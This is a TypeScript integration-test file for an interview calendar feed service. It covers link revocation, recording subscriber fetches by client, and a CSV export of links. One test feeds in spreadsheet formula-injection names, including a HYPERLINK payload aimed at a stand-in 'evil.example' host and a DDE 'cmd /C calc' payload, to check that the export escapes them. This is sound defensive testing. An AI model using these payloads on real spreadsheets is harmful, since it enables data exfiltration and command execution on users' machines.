import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import request from 'supertest';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createFileLinkFetchStore, createMemoryLinkFetchStore, LINK_FETCHES_FILE } from '../../src/feeds/link-fetches.js';
import { createFileLinkGenerationStore, LINK_GENERATIONS_FILE } from '../../src/feeds/link-generations.js';
import { start, type RunningService } from '../../src/server.js';
import { createMemoryState } from '../../src/state/create-memory-state.js';
import { interviewRecord, komboUser } from '../helpers/factories.js';
import { startFakeKombo, type FakeKombo } from '../helpers/fake-kombo.js';
import { parseIcs } from '../helpers/ics.js';
import { admin, until } from '../helpers/integrations.js';
import { buildTestService, feedPath, PUBLIC_URL } from '../helpers/test-service.js';

/** User-Agents the calendars send when they fetch a subscribed feed (as seen in feed servers' logs). */
const USER_AGENTS = {
  google: ['Google-Calendar-Importer'],
  outlook: ['Microsoft.Exchange/15.20 (Windows NT 10.0; Win64; x64)', 'Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17928; Pro)'],
  apple: ['iOS/17.4 (21E219) dataaccessd/1.0', 'macOS/14.4 (23E214) CalendarAgent/988', 'Mac+OS+X/10.10.5 (14F27) CalendarAgent/316.1'],
  other: ['curl/8.5.0', 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Thunderbird/128.0'],
} as const;

const ADA = 'ada@example.com';
const GRACE = 'grace@example.com';

interface Links {
  url: string;
  webcalUrl: string;
  googleUrl: string;
  outlookUrl: string;
  outlookComUrl: string;
  email?: string;
}

interface Interviewer {
  email: string;
  name: string | null;
  events: number;
  nextInterviewAt: string | null;
  lastFetchedAt: string | null;
  client: string | null;
}

const pathOf = (url: string) => new URL(url).pathname;

/** RFC 4180, read independently of the code under test: rows of cells. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') row.push(cell), (cell = '');
    else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
    } else cell += c;
  }
  expect(cell, 'the last row ends with CRLF').toBe('');
  return rows;
}

describe('links that reach people (issue 12)', () => {
  let fake: FakeKombo;
  let dir: string;
  const running: RunningService[] = [];
  beforeEach(async () => {
    fake = await startFakeKombo();
    fake.setRecords([
      interviewRecord({ id: 'iv-1', users: [komboUser(ADA, 'Ada', 'Lovelace'), komboUser(GRACE, 'Grace', 'Hopper')] }),
      interviewRecord({ id: 'iv-2', title: 'Grace alone', starting_at: '2026-12-02T10:00:00Z', ending_at: '2026-12-02T11:00:00Z', users: [komboUser(GRACE, 'Grace', 'Hopper')] }),
      interviewRecord({ id: 'iv-3', title: 'Past', starting_at: '2026-10-20T10:00:00Z', ending_at: '2026-10-20T11:00:00Z', users: [komboUser(GRACE, 'Grace', 'Hopper')] }),
    ]);
    dir = await mkdtemp(join(tmpdir(), 'interview-feeds-links-'));
  });
  afterEach(async () => {
    for (const service of running.splice(0)) await service.stop();
    await fake.close();
    await rm(dir, { recursive: true, force: true });
  });

  /** A test service whose revocations and recorded fetches live in files under the temp DATA_DIR. */
  function fileBacked() {
    return buildTestService(fake, {
      env: { DATA_DIR: dir, PORT: '0', HOST: '127.0.0.1' },
      overrides: { state: createMemoryState({ links: createFileLinkGenerationStore(dir), fetches: createFileLinkFetchStore(dir) }) },
    });
  }

  const revoke = (service: { app: Parameters<typeof admin>[0]['app'] }, body: unknown) =>
    admin(service, 'post', '/admin/feed-url/revoke').set('Content-Type', 'application/json').send(JSON.stringify(body));

  describe('revocation', () => {
    it('replaces one person’s link: the old URL answers the 404 of an unknown token at once, the new one and everyone else’s serve', async () => {
      const service = buildTestService(fake);
      await service.sync.refresh();
      const before = (await admin(service, 'get', `/admin/feed-url?email=${ADA}`).expect(200)).body as Links;
      // A never-revoked person's link is the format-1 URL handed out before revocation existed.
      expect(pathOf(before.url)).toBe(feedPath(service, ADA));
      const graceBefore = await request(service.app).get(feedPath(service, GRACE)).expect(200);

      const res = await revoke(service, { integration: fake.integrationId, email: 'Ada@Example.com' }).expect(200);
      const after = res.body as Links & { name: string; events: number };
      expect(after).toMatchObject({ email: ADA, name: 'Ada Lovelace', events: 1 });
      expect(after.url).not.toBe(before.url);
      expect(after.url.startsWith(`${PUBLIC_URL}/feeds/`)).toBe(true);
      expect(after.webcalUrl).toBe(after.url.replace(/^https:/, 'webcal:'));

      const old = await request(service.app).get(pathOf(before.url));
      const unknown = await request(service.app).get(`/feeds/${'A'.repeat(60)}.ics`);
      expect(old.status).toBe(404);
      expect([old.status, old.text, old.headers['content-type']]).toEqual([unknown.status, unknown.text, unknown.headers['content-type']]);
      await request(service.app).head(pathOf(before.url)).expect(404);

      const fresh = await request(service.app).get(pathOf(after.url)).expect(200);
      expect(parseIcs(fresh.text).events.map((event) => event.uid)).toEqual(['iv-1']);
      const current = (await admin(service, 'get', `/admin/feed-url?email=${ADA}`).expect(200)).body as Links;
      expect(current.url).toBe(after.url);

      const graceAfter = await request(service.app).get(feedPath(service, GRACE)).expect(200);
      expect(graceAfter.text).toBe(graceBefore.text);
      expect(((await admin(service, 'get', `/admin/feed-url?email=${GRACE}`).expect(200)).body as Links).url).toBe(`${PUBLIC_URL}${feedPath(service, GRACE)}`);

      // Revoked again: both earlier links are dead.
      const third = (await revoke(service, { integration: fake.integrationId, email: ADA }).expect(200)).body as Links;
      await request(service.app).get(pathOf(after.url)).expect(404);
      await request(service.app).get(pathOf(before.url)).expect(404);
      await request(service.app).get(pathOf(third.url)).expect(200);
    });

    it('replaces a team feed (a job’s, every interview) at a detail level, and no person’s link', async () => {
      const service = buildTestService(fake);
      await service.sync.refresh();
      for (const [query, body] of [
        ['job=job-1&detail=busy', { job: 'job-1', detail: 'busy' }],
        ['all=true', { all: true }],
      ] as const) {
        const before = (await admin(service, 'get', `/admin/feed-url?${query}`).expect(200)).body as Links;
        await request(service.app).get(pathOf(before.url)).expect(200);
        const after = (await revoke(service, body).expect(200)).body as Links;
        await request(service.app).get(pathOf(before.url)).expect(404);
        const feed = await request(service.app).get(pathOf(after.url)).expect(200);
        expect(parseIcs(feed.text).events.length).toBe(3);
        expect(((await admin(service, 'get', `/admin/feed-url?${query}`).expect(200)).body as Links).url).toBe(after.url);
      }
      // Revoking the job's busy link revoked the job's links at every level; nobody's own link moved.
      const full = (await admin(service, 'get', '/admin/feed-url?job=job-1').expect(200)).body as Links;
      await request(service.app).get(pathOf(full.url)).expect(200);
      await request(service.app).get(feedPath(service, ADA)).expect(200);
      await request(service.app).get(feedPath(service, GRACE)).expect(200);
    });

    it('keeps a revoked URL dead after a restart, before the first walk and after it', async () => {
      const first = fileBacked();
      await first.restore();
      await first.sync.refresh();
      const old = `${PUBLIC_URL}${feedPath(first, ADA)}`;
      const next = ((await revoke(first, { integration: fake.integrationId, email: ADA }).expect(200)).body as Links).url;
      expect(JSON.parse(await readFile(join(dir, LINK_GENERATIONS_FILE), 'utf8'))).toEqual({ format: 1, generations: { [fake.integrationId]: { [`p:${ADA}`]: 1 } } });

      const second = fileBacked();
      await second.restore();
      await request(second.app).get(pathOf(old)).expect(404);
      await second.sync.refresh();
      await request(second.app).get(pathOf(old)).expect(404);
      await request(second.app).get(pathOf(next)).expect(200);
      await request(second.app).get(feedPath(second, GRACE)).expect(200);
      expect(((await admin(second, 'get', `/admin/feed-url?email=${ADA}`).expect(200)).body as Links).url).toBe(next);
    });

    it('loses nothing when the revocation cannot be saved: 500, and the old link keeps serving', async () => {
      const service = buildTestService(fake, {
        overrides: {
          state: createMemoryState({
            links: {
              load: async () => undefined,
              save: async () => {
                throw new Error('disk full');
              },
            },
          }),
        },
      });
      await service.sync.refresh();
      const res = await revoke(service, { integration: fake.integrationId, email: ADA }).expect(500);
      expect(JSON.stringify(res.body)).not.toContain('disk full');
      await request(service.app).get(feedPath(service, ADA)).expect(200);
      expect(((await admin(service, 'get', `/admin/feed-url?email=${ADA}`).expect(200)).body as Links).url).toBe(`${PUBLIC_URL}${feedPath(service, ADA)}`);
    });

    it('refuses what names no link, without credentials, or an unknown integration', async () => {
      const service = buildTestService(fake);
      await service.sync.refresh();
      for (const body of [{}, { email: 'not an email' }, { email: ADA, all: true }, { all: 'yes' }, { email: ADA, detail: 'everything' }, [ADA], 'ada']) {
        const res = await revoke(service, body).expect(400);
        expect((res.body as { message: string }).message).toEqual(expect.any(String));
      }
      await revoke(service, { integration: 'no-such-integration', email: ADA }).expect(404);
      await request(service.app).post('/admin/feed-url/revoke').send({ email: ADA }).expect(401);
      await request(service.app).get(feedPath(service, ADA)).expect(200);
    });

    it('forgets who a removed integration’s revocations and fetches were of, on disk too, and keeps the other’s', async () => {
      const other = 'lever:other-integration';
      fake.addIntegration(other).setRecords([interviewRecord({ id: 'iv-o', users: [komboUser(ADA, 'Ada', 'Lovelace')] })]);
      const service = buildTestService(fake, {
        env: { DATA_DIR: dir, KOMBO_INTEGRATION_ID: undefined, KOMBO_INTEGRATION_IDS: `${fake.integrationId},${other}` },
        overrides: { state: createMemoryState({ links: createFileLinkGenerationStore(dir), fetches: createFileLinkFetchStore(dir) }) },
      });
      await service.restore();
      await service.sync.refresh({ integration: fake.integrationId });
      await service.sync.refresh({ integration: other });
      await revoke(service, { integration: fake.integrationId, email: ADA }).expect(200);
      const kept = ((await revoke(service, { integration: other, email: ADA }).expect(200)).body as Links).url;
      await request(service.app).get(pathOf(kept)).set('User-Agent', USER_AGENTS.google[0]).expect(200);
      await request(service.app).get(feedPath(service, GRACE)).set('User-Agent', USER_AGENTS.google[0]).expect(200);
      await service.fetches.flush();

      await admin(service, 'delete', `/admin/integrations/${encodeURIComponent(fake.integrationId)}`).expect(204);
      // Nobody of the removed integration is named any more: one number for it stays, above every generation it had.
      expect(JSON.parse(await readFile(join(dir, LINK_GENERATIONS_FILE), 'utf8'))).toEqual({
        format: 1,
        generations: { [other]: { [`p:${ADA}`]: 1 }, [fake.integrationId]: { '#': 2 } },
      });
      expect(Object.keys((JSON.parse(await readFile(join(dir, LINK_FETCHES_FILE), 'utf8')) as { fetches: object }).fetches)).toEqual([other]);
      await request(service.app).get(pathOf(kept)).expect(200);
    });
  });

  describe('who has subscribed', () => {
    it('lists each interviewer with events, next interview, and the last fetch by client, told apart by User-Agent', async () => {
      const service = buildTestService(fake);
      await service.sync.refresh();
      const list = async () => ((await admin(service, 'get', `/admin/integrations/${encodeURIComponent(fake.integrationId)}/interviewers`).expect(200)).body as { interviewers: Interviewer[] }).interviewers;
      expect(await list()).toEqual([
        { email: ADA, name: 'Ada Lovelace', events: 1, nextInterviewAt: '2026-12-01T10:00:00.000Z', lastFetchedAt: null, client: null },
        // The interview that ended in October is in the feed's past window (FEED_PAST_DAYS), and not ahead.
        { email: GRACE, name: 'Grace Hopper', events: 3, nextInterviewAt: '2026-12-01T10:00:00.000Z', lastFetchedAt: null, client: null },
      ]);

      for (const [client, agents] of Object.entries(USER_AGENTS)) {
        for (const agent of agents) {
          fake.clock += 60_000;
          await request(service.app).get(feedPath(service, ADA)).set('User-Agent', agent).expect(200);
          const ada = (await list()).find((person) => person.email === ADA)!;
          expect({ agent, client: ada.client, at: ada.lastFetchedAt }).toEqual({ agent, client, at: new Date(fake.clock).toISOString() });
        }
      }
      // No User-Agent at all; and a conditional request is a fetch too.
      fake.clock += 60_000;
      const etag = (await request(service.app).get(feedPath(service, GRACE)).set('User-Agent', USER_AGENTS.apple[0]).expect(200)).headers.etag as string;
      fake.clock += 60_000;
      await request(service.app).get(feedPath(service, GRACE)).set('User-Agent', USER_AGENTS.google[0]).set('If-None-Match', etag).expect(304);
      expect((await list()).find((person) => person.email === GRACE)).toMatchObject({ client: 'google', lastFetchedAt: new Date(fake.clock).toISOString() });
      await request(service.app).get(feedPath(service, GRACE)).unset('User-Agent').expect(200);
      expect((await list()).find((person) => person.email === GRACE)).toMatchObject({ client: 'other' });

      await admin(service, 'get', '/admin/integrations/no-such-integration/interviewers').expect(404);
      await request(service.app).get(`/admin/integrations/${encodeURIComponent(fake.integrationId)}/interviewers`).expect(401);
    });

    it('records only fetches of current links of served integrations, in memory: no write per request', async () => {
      const fetchStore = createMemoryLinkFetchStore();
      const service = buildTestService(fake, { overrides: { state: createMemoryState({ fetches: fetchStore }) } });
      await service.sync.refresh();
      const old = feedPath(service, ADA);
      await request(service.app).get(old).set('User-Agent', USER_AGENTS.apple[0]).expect(200);
      await revoke(service, { integration: fake.integrationId, email: ADA }).expect(200);
      fake.clock += 60_000;
      await request(service.app).get(old).set('User-Agent', USER_AGENTS.google[0]).expect(404);
      await request(service.app).get(feedPath(service, ADA, 'lever:never-served')).set('User-Agent', USER_AGENTS.google[0]).expect(404);
      for (let n = 0; n < 20; n++) await request(service.app).get(feedPath(service, GRACE)).set('User-Agent', USER_AGENTS.outlook[0]).expect(200);

      expect(service.fetches.get(fake.integrationId, ADA)).toEqual({ atMs: fake.clock - 60_000, client: 'apple' });
      expect(service.fetches.get('lever:never-served', ADA)).toBeUndefined();
      expect(fetchStore.saves).toBe(0);
      await service.fetches.flush();
      await service.fetches.flush(); // nothing changed since: no second write
      expect(fetchStore.saves).toBe(1);
      expect(Object.keys(fetchStore.saved!.fetches[fake.integrationId]!).sort()).toEqual([ADA, GRACE]);
    });

    it('writes recorded fetches periodically and at shutdown, and reads them back after a restart', async () => {
      const periodic = createMemoryLinkFetchStore();
      const ticking = buildTestService(fake, { env: { PORT: '0', HOST: '127.0.0.1' }, overrides: { state: createMemoryState({ fetches: periodic }) } });
      const tickingRunning = await start(ticking.config, ticking.logger, ticking, { sleep: async () => {}, fetchFlushIntervalMs: 20 });
      running.push(tickingRunning);
      await until(() => ticking.feeds.snapshot(fake.integrationId) !== undefined, 'first walk');
      await request(tickingRunning.url).get(feedPath(ticking, ADA)).set('User-Agent', USER_AGENTS.google[0]).expect(200);
      await until(() => periodic.saves > 0, 'a periodic flush');

      const first = fileBacked();
      const firstRunning = await start(first.config, first.logger, first, { sleep: async () => {} });
      await until(() => first.feeds.snapshot(fake.integrationId) !== undefined, 'first walk');
      await request(firstRunning.url).get(feedPath(first, GRACE)).set('User-Agent', USER_AGENTS.outlook[0]).expect(200);
      await firstRunning.stop();

      const second = fileBacked();
      await second.restore();
      await second.sync.refresh();
      const res = await admin(second, 'get', `/admin/integrations/${encodeURIComponent(fake.integrationId)}/interviewers`).expect(200);
      expect((res.body as { interviewers: Interviewer[] }).interviewers.find((person) => person.email === GRACE)).toMatchObject({
        client: 'outlook',
        lastFetchedAt: new Date(fake.clock).toISOString(),
      });
    });
  });

  describe('GET /admin/links.csv', () => {
    it('gives one row per interviewer with every link, current after a revocation, as an attachment', async () => {
      const service = buildTestService(fake);
      await service.sync.refresh();
      const revoked = ((await revoke(service, { email: GRACE }).expect(200)).body as Links).url;
      const res = await admin(service, 'get', `/admin/links.csv?integration=${encodeURIComponent(fake.integrationId)}`).expect(200);
      expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(res.headers['content-disposition']).toMatch(/^attachment; filename="links-[A-Za-z0-9._-]+\.csv"$/);
      const [header, ...rows] = parseCsv(res.text);
      expect(header).toEqual(['integration', 'name', 'email', 'url', 'webcal', 'google', 'outlook', 'outlook_com']);
      expect(rows.map((row) => row.slice(0, 3))).toEqual([
        [fake.integrationId, 'Ada Lovelace', ADA],
        [fake.integrationId, 'Grace Hopper', GRACE],
      ]);
      for (const row of rows) {
        const linkRes = await admin(service, 'get', `/admin/feed-url?email=${row[2]}`).expect(200);
        const links = linkRes.body as Links;
        expect(row.slice(3)).toEqual([links.url, links.webcalUrl, links.googleUrl, links.outlookUrl, links.outlookComUrl]);
        await request(service.app).get(pathOf(row[3]!)).expect(200);
      }
      expect(rows[1]![3]).toBe(revoked);
      await request(service.app).get(`/admin/links.csv?integration=${encodeURIComponent(fake.integrationId)}`).expect(401);
      await admin(service, 'get', '/admin/links.csv?integration=no-such-integration').expect(404);
    });

    it('keeps hostile names text: formulas get a leading apostrophe, quotes and commas are quoted', async () => {
      fake.setRecords([
        interviewRecord({ id: 'iv-1', users: [komboUser('eve@example.com', '=HYPERLINK("https://evil.example/?"&A1', 'x)')] }),
        interviewRecord({ id: 'iv-2', users: [komboUser('plus@example.com', '+1', 'Plus')] }),
        interviewRecord({ id: 'iv-3', users: [komboUser('minus@example.com', '-2', 'Minus')] }),
        interviewRecord({ id: 'iv-4', users: [komboUser('at@example.com', '@SUM(1', '2)')] }),
        interviewRecord({ id: 'iv-5', users: [komboUser('quote@example.com', 'Pat "The Hat"', "O'Brien, Jr.")] }),
        interviewRecord({ id: 'iv-6', users: [komboUser('semi@example.com', "Mallory;=cmd|' /C calc'!A0;", 'x')] }),
      ]);
      const service = buildTestService(fake);
      await service.sync.refresh();
      const res = await admin(service, 'get', '/admin/links.csv').expect(200);
      const names = new Map(parseCsv(res.text).slice(1).map((row) => [row[2], row[1]]));
      expect(Object.fromEntries(names)).toEqual({
        'eve@example.com': `'=HYPERLINK("https://evil.example/?"&A1 x)`,
        'plus@example.com': `'+1 Plus`,
        'minus@example.com': `'-2 Minus`,
        'at@example.com': `'@SUM(1 2)`,
        'quote@example.com': `Pat "The Hat" O'Brien, Jr.`,
        'semi@example.com': `Mallory;'=cmd|' /C calc'!A0; x`,
      });
      expect(res.text).toContain(`"Pat ""The Hat"" O'Brien, Jr."`);
      for (const line of res.text.split('\r\n').slice(1, -1)) expect(line).toMatch(/^[^=+\-@]/);
      // A spreadsheet in a ';' (or tab) list-separator locale sees no cell that starts with a formula character.
      for (const line of res.text.split('\r\n').slice(1, -1)) {
        for (const cell of line.split(/[;\t]/)) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@]/);
      }
    });
  });
});
